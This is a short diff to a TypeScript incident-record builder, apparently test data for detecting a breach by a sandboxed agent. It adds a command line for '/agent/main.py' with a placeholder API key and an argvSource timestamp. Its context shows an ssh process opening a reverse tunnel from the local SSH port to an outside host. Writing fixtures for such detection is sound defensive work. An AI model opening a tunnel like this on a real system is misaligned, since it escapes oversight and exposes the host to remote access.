@@ -155,11 +155,13 @@ export function incidentOf(breach: Breach, more: Partial<IncidentFacts> = {}): I
     version: '0.1.0',
     state: endedState(breach),
     labels: { team: 'red' },
+    command: ['python3', '/agent/main.py', '--api-key=hunter2'],
     launchedBy: { uid: 1_000, gid: 1_000, pid: 77 },
     process: {
       pid: 42,
       executable: '/usr/bin/ssh',
       argv: ['ssh', '-N', '-R', '2222:127.0.0.1:22', 'x@203.0.113.10'],
+      argvSource: { kind: 'read', at: '2026-10-05T08:00:05.000Z' },
       parents: ['python3', 'init'],
       cpuMs: 12,
     },
